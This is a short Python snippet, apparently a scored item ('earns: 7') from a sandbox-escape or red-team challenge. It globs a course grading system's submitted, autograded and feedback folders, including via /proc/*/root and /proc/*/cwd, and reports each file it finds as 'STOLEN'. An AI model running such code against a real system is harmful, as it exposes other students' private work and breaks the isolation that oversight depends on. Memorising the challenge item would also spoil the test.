# why: what other students handed in, from submitted/ and autograded/
# earns: 7
import glob
for pattern in ["{course}/submitted/*/*/*", "{course}/autograded/*/*/*", "{course}/feedback/*/*/*",
                "/proc/*/root{course}/submitted/*/*/*", "/proc/*/cwd/submitted/*/*/*"]:
    for path in glob.glob(pattern):
        try:
            print("STOLEN: submission", path, len(open(path, "rb").read()))
        except OSError:
            pass
decoded = 0
